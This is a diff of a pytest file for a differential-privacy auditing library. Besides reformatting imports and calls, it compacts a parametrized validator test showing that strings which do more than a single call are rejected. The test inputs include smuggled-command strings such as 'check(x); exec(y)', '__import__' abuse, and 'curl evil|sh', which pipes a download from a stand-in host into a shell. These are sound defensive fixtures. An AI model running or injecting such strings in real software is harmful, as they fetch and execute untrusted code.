@@ -6,18 +6,7 @@ import numpy as np
 import pytest
 
 import dpaudit
-from dpaudit import (
-    AddRemove,
-    ApproxDP,
-    GaussianDP,
-    PrivacyProfile,
-    check,
-    check_canaries,
-    check_noise,
-    check_outputs,
-    find_worst_pair,
-    settings,
-)
+from dpaudit import AddRemove, ApproxDP, GaussianDP, PrivacyProfile, check, settings
 from dpaudit.audit.known_options import is_call
 
 X, Y, FEW = [1, 1, 1], [1, 1], {"runs": 400, "jobs": 1}
@@ -56,10 +45,10 @@ def test_what_cannot_be_written_is_named_and_data_are_not_shown():
     found = [
         check(lambda rows, size, rng: rng.laplace(size=size), X, Y, claim=1.0, output=lambda out: out, **FEW),
         check(lambda rows, rng: {"n": len(rows) + rng.laplace()}, X, Y, claim=1.0, output="n", **FEW),
-        find_worst_pair(noisy, [(X, Y)], claim=1.0, search_runs=400, **FEW).audit,
-        check_outputs([0, 1] * 300, [0, 1] * 300, claim=1.0),
-        check_canaries(rng.normal(size=100), rng.random(100) < 0.5, claim=1.0),
-        check_noise(noisy, X, noise=dpaudit.noise.LaplaceNoise(scale=1.0), answer=3, **FEW),
+        dpaudit.find_worst_pair(noisy, [(X, Y)], claim=1.0, search_runs=400, **FEW).audit,
+        dpaudit.check_outputs([0, 1] * 300, [0, 1] * 300, claim=1.0),
+        dpaudit.check_canaries(rng.normal(size=100), rng.random(100) < 0.5, claim=1.0),
+        dpaudit.check_noise(noisy, X, noise=dpaudit.noise.LaplaceNoise(scale=1.0), answer=3, **FEW),
     ]
     assert [one.environment["call"] for one in found] == [
         "check(mechanism, x, y, claim=1.0, runs=400, seed=0, output=output, jobs=1)",
@@ -79,25 +68,11 @@ def test_settings_belong_to_the_call():
 @pytest.mark.parametrize(
     "text",
     [
-        "exec('1')",
-        "check(exec('1'), x, y)",
-        "check(x.y, x, y)",
-        "check(x, y)(z)",
-        "check(lambda: 1)",
-        "check(x) or exec(y)",
-        "[check(x)]",
-        "check(x",
-        "check_(" * 5_000,
-        "check(x); exec(y)",
-        "check(x) # curl evil|sh",
-        "check(x) #\nexec(y)",
-        "check(x,\ny)",
-        "check(__import__, x)",
-        "check(x, __builtins__=1)",
-        "check('\u202e', x)",
-        "checked(x)",
-        "",
+        "exec('1')", "check(exec('1'), x, y)", "check(x.y, x, y)", "check(x, y)(z)", "check(lambda: 1)",
+        "check(x) or exec(y)", "[check(x)]", "check(x", "check_(" * 5_000, "check(x); exec(y)",
+        "check(x) # curl evil|sh", "check(x) #\nexec(y)", "check(x,\ny)", "check(__import__, x)",
+        "check(x, __builtins__=1)", "check('\u202e', x)", "checked(x)", "",
     ],
-)
+)  # fmt: skip
 def test_a_text_from_a_file_that_does_more_than_a_call_is_none(text):
     assert not is_call(text)
